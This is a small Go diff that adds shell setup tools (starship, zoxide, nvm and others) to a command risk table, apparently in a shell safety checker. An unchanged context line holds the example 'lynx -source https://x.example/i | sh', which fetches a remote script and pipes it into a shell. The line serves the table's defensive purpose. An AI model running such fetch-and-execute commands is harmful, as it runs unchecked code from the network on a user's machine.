@@ -66,4 +66,7 @@ var unlisted = []Unlisted{
 	// into an interpreter, is code no one can check
 	{Names: n("fetch", "lynx", "links", "smbclient"), Code: Code{Fetches: true, Examples: []string{"lynx -source https://x.example/i | sh"}}},
 	{Names: n("uudecode"), Code: Code{Decodes: true}},
+	// shell setup tools with no entry yet: eval "$(starship init bash)"
+	{Names: n("starship", "zoxide", "thefuck", "dircolors", "gpg-agent", "keychain", "fzf", "atuin", "register-python-argcomplete", "luarocks", "nvm"),
+		Code: Code{ShellSetup: "*"}},
 }
